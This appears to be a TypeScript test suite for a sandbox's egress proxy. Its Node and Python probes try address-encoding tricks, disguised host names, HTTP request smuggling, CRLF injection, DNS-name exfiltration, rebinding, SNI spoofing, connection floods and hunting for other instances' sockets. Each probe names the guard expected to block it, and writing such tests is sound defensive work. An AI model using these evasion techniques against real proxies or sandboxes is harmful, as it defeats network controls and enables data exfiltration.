import { NODE_WORLD, PYTHON_WORLD } from '../preludes.ts'
import { type HostileProgram, pause } from '../program.ts'

/** Defines `send(text, …)`, which sends bytes to the proxy one after the other and returns the first line of each answer. */
export const NODE_PROXY = `${NODE_WORLD}
  import net from 'node:net'
  const { open, closed, tls, hellos, folder } = environment.network
  const proxy = folder + '/proxy'
  const send = (...texts) => new Promise((resolve) => {
    const socket = net.connect({ path: proxy })
    const lines = []
    socket.setTimeout(1000, () => socket.destroy())
    socket.on('error', (error) => lines.push(error.code))
    socket.on('close', () => resolve(lines))
    socket.on('data', (data) => {
      lines.push(String(data).split('\\r\\n')[0])
      if (texts.length > 0) socket.write(texts.shift())
      else socket.end()
    })
    socket.write(texts.shift())
  })
  const connectTo = (target) => 'CONNECT ' + target + ' HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'`
export const PYTHON_PROXY = `${PYTHON_WORLD}
import socket
open_, closed, tls, hellos, folder = (environment['network'][name] for name in ('open', 'closed', 'tls', 'hellos', 'folder'))
proxy = folder + '/proxy'
def send(*texts):
    lines = []
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(1)
        try:
            made.connect(proxy)
            for text in texts:
                made.sendall(text if isinstance(text, bytes) else text.encode('latin1'))
                lines.append(made.recv(10000).split(b'\\r\\n')[0].decode('latin1'))
        except OSError as error:
            lines.append(repr(error))
    return lines
def connectTo(target):
    return f'CONNECT {target} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'`

/** A program that sends these texts to the proxy, one connection for each list. The texts use names of the prelude as \`{name}\`. */
function sends(name: string, stoppedBy: HostileProgram['stoppedBy'], lists: readonly string[][]): HostileProgram {
  const fill = (text: string, node: boolean) =>
    JSON.stringify(text).replace(/\{(\w+)\}/g, (_, port) =>
      node ? `" + ${port} + "` : `" + str(${port === 'open' ? 'open_' : port}) + "`,
    )
  const code = (node: boolean) =>
    `[${lists.map((list) => `[${list.map((text) => fill(text, node)).join(', ')}]`).join(', ')}]`
  return {
    name,
    group: 'PROXY',
    network: true,
    stoppedBy,
    node: `${NODE_PROXY}
  const answers = []
  for (const list of ${code(true)}) answers.push(await send(...list))
  export default answers`,
    python: `${PYTHON_PROXY}
result = [send(*each) for each in ${code(false)}]`,
  }
}

const connect = (target: string) => `CONNECT ${target} HTTP/1.1\r\nHost: allowed.test\r\n\r\n`

const sendsHello = (name: string, which: string): HostileProgram => ({
  name,
  group: 'PROXY',
  network: true,
  stoppedBy: [['proxy_sni']],
  node: `${NODE_PROXY}
  export default await send(connectTo('allowed.test:' + tls), Buffer.from(hellos.${which}, 'hex'))`,
  python: `${PYTHON_PROXY}
result = send(connectTo(f'allowed.test:{tls}'), bytes.fromhex(hellos['${which}']))`,
})

export const proxy: HostileProgram[] = [
  {
    name: 'connects to a host that its policy does not list, by the usual clients',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_policy']],
    node: `${NODE_PROXY}
      export default await fetch('http://forbidden.test:' + closed).catch((error) => error.cause.message)`,
    python: `${PYTHON_PROXY}
import urllib.request
result = tried(lambda: urllib.request.urlopen(f'http://forbidden.test:{closed}').read())`,
  },
  sends(
    'asks the proxy for a host that its policy does not list',
    [['proxy_policy']],
    [[connect('forbidden.test:{closed}')]],
  ),
  sends('asks the proxy for another port of its host', [['proxy_policy']], [[connect('allowed.test:{closed}')]]),
  sends(
    'asks the proxy for addresses: IPv4, IPv6, mapped, decimal, octal, hexadecimal, shortened',
    [['proxy_policy']],
    [
      '127.0.0.1',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '[::ffff:7f00:1]',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '0',
    ].map((host) => [connect(`${host}:{closed}`)]),
  ),
  sends(
    'disguises a host as one of its policy',
    [['proxy_policy']],
    [
      'allowed.test.forbidden.test',
      'forbidden.test.',
      'FORBIDDEN.test',
      'allowed.test@forbidden.test',
      'forbidden.test#allowed.test',
      'forbidden.test%00.allowed.test',
      'forbidden.test\0.allowed.test',
      'forbidden.test\\.allowed.test',
      'notallowed.test',
    ].map((host) => [connect(`${host}:{closed}`)]),
  ),
  sends(
    'asks for a forbidden host in a request for an URL',
    [['proxy_policy']],
    [
      ['GET http://forbidden.test:{closed}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'],
      ['GET http://allowed.test:{open}@forbidden.test:{closed}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'],
      ['GET //forbidden.test:{closed}/ HTTP/1.1\r\nHost: forbidden.test\r\n\r\n'],
    ],
  ),
  sends(
    'asks for a forbidden host after an allowed request on the same connection',
    [['proxy_policy']],
    [
      [
        'GET http://allowed.test:{open}/ HTTP/1.1\r\nHost: a\r\n\r\n',
        'GET http://forbidden.test:{closed}/ HTTP/1.1\r\nHost: a\r\n\r\n',
      ],
    ],
  ),
  sends(
    'smuggles a request: pipelined, by two lengths, by a length and chunks',
    [['proxy_policy']],
    [
      [
        'POST http://allowed.test:{open}/ HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\nGET http://forbidden.test:{closed}/ HTTP/1.1\r\nHost: a\r\n\r\n',
      ],
      [
        'POST http://allowed.test:{open}/ HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 70\r\n\r\nGET http://forbidden.test:{closed}/ HTTP/1.1\r\nHost: a\r\n\r\n',
      ],
      [
        'POST http://allowed.test:{open}/ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://forbidden.test:{closed}/ HTTP/1.1\r\nHost: a\r\n\r\n',
      ],
    ],
  ),
  sends(
    'hides a forbidden host behind line breaks in CONNECT',
    [['proxy_policy']],
    [
      ['CONNECT allowed.test:{open}\r\nCONNECT forbidden.test:{closed} HTTP/1.1\r\n\r\n'],
      ['CONNECT allowed.test:{open} HTTP/1.1\nHost: a\n\nCONNECT forbidden.test:{closed} HTTP/1.1\r\n\r\n'],
      ['CONNECT forbidden.test:{closed} HTTP/1.1\r\nHost: allowed.test:{open}\r\nX: a\r\n b\r\n\r\n'],
      ['CONNECT forbidden.test:{closed} HTTP/1.1\r\nHost: allowed.test:{open}\r\n\r\n'],
    ],
  ),
  {
    name: 'follows a redirect of its host to another one',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_policy']],
    node: `${NODE_PROXY}
      export default await fetch('http://allowed.test:' + open + '/redirect').catch((error) => error.cause.message)`,
    python: `${PYTHON_PROXY}
import urllib.request
result = tried(lambda: urllib.request.urlopen(f'http://allowed.test:{open_}/redirect').read())`,
  },
  {
    name: 'asks the proxy from a process that it has started',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_policy']],
    node: `${NODE_PROXY}
      import { spawnSync } from 'node:child_process'
      const code = \`const s = require('net').connect({ path: '\${proxy}' }, () => s.write('\${JSON.stringify(connectTo('forbidden.test:' + closed)).slice(1, -1)}'));
        s.on('data', () => s.end()); s.on('error', () => {}); setTimeout(() => s.destroy(), 1000)\`
      export default String(spawnSync(process.execPath, ['-e', code]).stderr)`,
    python: `${PYTHON_PROXY}
child = os.fork()
if child == 0:
    tried(lambda: send(connectTo(f'forbidden.test:{closed}')))
    os._exit(0)
result = os.waitpid(child, 0)[1]`,
  },
  {
    name: 'sends data in names that it lets the server resolve',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_policy']],
    node: `${NODE_PROXY}
      import dns from 'node:dns/promises'
      await dns.lookup('c2VjcmV0.tunnel.test').catch(() => {})
      export default await send(connectTo('c2VjcmV0.tunnel.test:443'))`,
    python: `${PYTHON_PROXY}
tried(lambda: socket.getaddrinfo('c2VjcmV0.tunnel.test', 443))
result = send(connectTo('c2VjcmV0.tunnel.test:443'))`,
  },
  sends(
    'connects to a name of its policy with a private address',
    [['proxy_addresses']],
    [[connect('private.test:{open}')]],
  ),
  sends(
    'connects to a name of its policy with mapped and local IPv6 addresses',
    [['proxy_addresses']],
    [[connect('mapped.test:{open}')]],
  ),
  sends(
    'connects to a name of its policy with a private and a public address',
    [['proxy_addresses']],
    [[connect('mixed.test:{open}')]],
  ),
  sends(
    'connects to a name whose address changes between check and connection',
    [['proxy_addresses']],
    [[connect('rebind.test:{open}')], [connect('rebind.test:{open}')], [connect('rebind.test:{open}')]],
  ),
  sendsHello('names another server in TLS than in CONNECT', 'other'),
  sendsHello('names no server in TLS', 'none'),
  sendsHello('encrypts the ClientHello', 'encrypted'),
  sendsHello('divides a ClientHello for another server over two records', 'divided'),
  {
    name: 'sends a ClientHello for another server byte by byte',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_sni']],
    node: `${NODE_PROXY}
      const bytes = Buffer.from(hellos.other, 'hex')
      export default await new Promise((resolve) => {
        const socket = net.connect({ path: proxy })
        socket.setNoDelay?.(true)
        socket.on('error', (error) => resolve(error.code))
        socket.on('close', () => resolve('closed'))
        socket.once('data', async () => {
          for (const byte of bytes) {
            socket.write(Buffer.from([byte]))
            await new Promise((next) => setTimeout(next, 2))
          }
          setTimeout(() => socket.destroy(), 500)
        })
        socket.write(connectTo('allowed.test:' + tls))
      })`,
    python: `${PYTHON_PROXY}
def slowly():
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(1)
        made.connect(proxy)
        made.sendall(connectTo(f'allowed.test:{tls}').encode())
        made.recv(1000)
        for byte in bytes.fromhex(hellos['other']):
            made.sendall(bytes([byte]))
            time.sleep(0.002)
        made.recv(1000)
result = tried(slowly)`,
  },
  {
    name: 'opens more connections at once than its limit',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_limits']],
    node: `${NODE_PROXY}
      const one = () => new Promise((resolve) => {
        const socket = net.connect({ path: proxy })
        socket.on('error', () => resolve('error'))
        socket.on('data', (data) => resolve(String(data).split('\\r\\n')[0]))
        socket.write(connectTo('allowed.test:' + open))
        setTimeout(() => { resolve('late'); socket.destroy() }, 1500)
      })
      export default await Promise.all(Array.from({ length: 30 }, one))`,
    python: `${PYTHON_PROXY}
kept = []
def one():
    made = socket.socket(socket.AF_UNIX)
    made.settimeout(1)
    made.connect(proxy)
    made.sendall(connectTo(f'allowed.test:{open_}').encode())
    kept.append(made)
    return made.recv(1000).decode()
result = [tried(one) for _ in range(30)]`,
  },
  {
    name: 'opens connections without end, one after the other',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_limits']],
    timeoutSeconds: 10,
    node: `${NODE_PROXY}
      const one = () => new Promise((resolve) => {
        const socket = net.connect({ path: proxy })
        socket.on('error', resolve)
        socket.on('close', resolve)
        socket.on('data', () => socket.destroy())
        socket.write(connectTo('allowed.test:' + open))
      })
      for (let i = 0; i < 500; i++) await one()
      export default 1`,
    python: `${PYTHON_PROXY}
for _ in range(500):
    tried(lambda: send(connectTo(f'allowed.test:{open_}')))
result = 1`,
  },
  {
    name: 'sends bytes without end to its host',
    group: 'PROXY',
    network: true,
    stoppedBy: [['proxy_limits']],
    timeoutSeconds: 10,
    node: `${NODE_PROXY}
      export default await new Promise((resolve) => {
        const socket = net.connect({ path: proxy })
        let left = 300
        const piece = Buffer.alloc(65536, 'x')
        const fill = () => { while (left-- > 0) if (!socket.write(piece)) return socket.once('drain', fill); socket.end() }
        socket.on('error', (error) => resolve(error.code))
        socket.on('close', () => resolve('closed'))
        socket.once('data', fill)
        socket.write(connectTo('allowed.test:' + open))
        setTimeout(() => socket.destroy(), 5000)
      })`,
    python: `${PYTHON_PROXY}
def flood():
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(2)
        made.connect(proxy)
        made.sendall(connectTo(f'allowed.test:{open_}').encode())
        made.recv(1000)
        for _ in range(300): made.sendall(b'x' * 65536)
        made.shutdown(socket.SHUT_WR)
        made.recv(1000)
result = tried(flood)`,
  },
  {
    name: 'searches for the sockets of other instances, and asks their proxies',
    group: 'PROXY',
    network: true,
    stoppedBy: [['own_socket']],
    timeoutSeconds: 10,
    node: `${NODE_PROXY}
      import fs from 'node:fs'
      const ask = (path, text) => new Promise((resolve) => {
        const socket = net.connect({ path })
        socket.setTimeout(500, () => socket.destroy())
        socket.on('error', () => {})
        socket.on('close', resolve)
        socket.on('data', () => socket.destroy())
        socket.write(text)
      })
      export default async (event) => {
        if (event.wait) return new Promise((resolve) => setTimeout(resolve, 4000, 'waited'))
        const found = [folder, folder + '/..', '/tmp', '/fn', '/proc/1/root/opt/net']
          .flatMap((each) => tried(() => fs.readdirSync(each).map((name) => each + '/' + name)))
          .filter((path) => path.startsWith('/'))
        for (const path of found)
          for (const each of [path, path + '/proxy']) await ask(each, connectTo('forbidden.test:' + closed))
        return found
      }`,
    python: `${PYTHON_PROXY}
def ask(path):
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(0.5)
        made.connect(path)
        made.sendall(connectTo(f'forbidden.test:{closed}').encode())
        made.recv(1000)
def handler(event, ctx):
    if event.get('wait'):
        time.sleep(4)
        return 'waited'
    found = []
    for each in [folder, folder + '/..', '/tmp', '/fn', '/proc/1/root/opt/net']:
        names = tried(lambda: os.listdir(each))
        if isinstance(names, list): found += [each + '/' + name for name in names]
    for path in found:
        for each in (path, path + '/proxy'): tried(lambda: ask(each))
    return found`,
    async play(fixture) {
      const { closed } = fixture.environment.told.network
      // The other instance may connect to the host that this one may not.
      const over = new AbortController()
      const other = fixture.environment.driver.call({
        program: { ...fixture.programOf(null, 'fresh'), network: { allow: [`forbidden.test:${closed}`] } },
        mode: 'handler',
        input: { event: { wait: true } },
        timeout_seconds: 10,
        output_limit_bytes: 1_000,
        signal: over.signal,
      })
      await pause(1_000)
      await fixture.call({ key: 'search', input: { event: {} } })
      over.abort()
      await other
    },
  },
  {
    name: 'looks for a proxy without having a policy',
    group: 'PROXY',
    stoppedBy: [],
    inherent: 'the socket of the proxy is created only for an instance with a policy',
    node: `${NODE_PROXY}
      export default await send(connectTo('allowed.test:' + open), connectTo('forbidden.test:' + closed))`,
    python: `${PYTHON_PROXY}
result = send(connectTo(f'allowed.test:{open_}'), connectTo(f'forbidden.test:{closed}'))`,
    after(fixture, { result }) {
      const text = Buffer.from(result?.body ?? '').toString()
      fixture.check(!text.includes('HTTP/1.1'), `a proxy has answered a program without a policy: ${text}`)
    },
  },
  {
    name: 'fills the folder of its socket, or replaces the socket',
    group: 'PROXY',
    network: true,
    stoppedBy: [],
    inherent: 'the folder is mounted read-only',
    node: `${NODE_PROXY}
      import fs from 'node:fs'
      export default [
        tried(() => fs.writeFileSync(folder + '/file', 'x')),
        tried(() => fs.unlinkSync(proxy)),
        tried(() => fs.renameSync(proxy, folder + '/other')),
        tried(() => fs.chmodSync(proxy, 0)),
      ]`,
    python: `${PYTHON_PROXY}
result = [tried(lambda: open(folder + '/file', 'w')), tried(lambda: os.unlink(proxy)),
    tried(lambda: os.rename(proxy, folder + '/other')), tried(lambda: os.chmod(proxy, 0))]`,
    after(fixture, { result }) {
      const answers = JSON.parse(Buffer.from(result?.body ?? 'null').toString()) as unknown[] | null
      fixture.check(
        answers?.every((each) => /EROFS|Read-only/.test(String(each))) === true,
        `the folder of the socket has changed: ${JSON.stringify(answers)}`,
      )
    },
  },
]
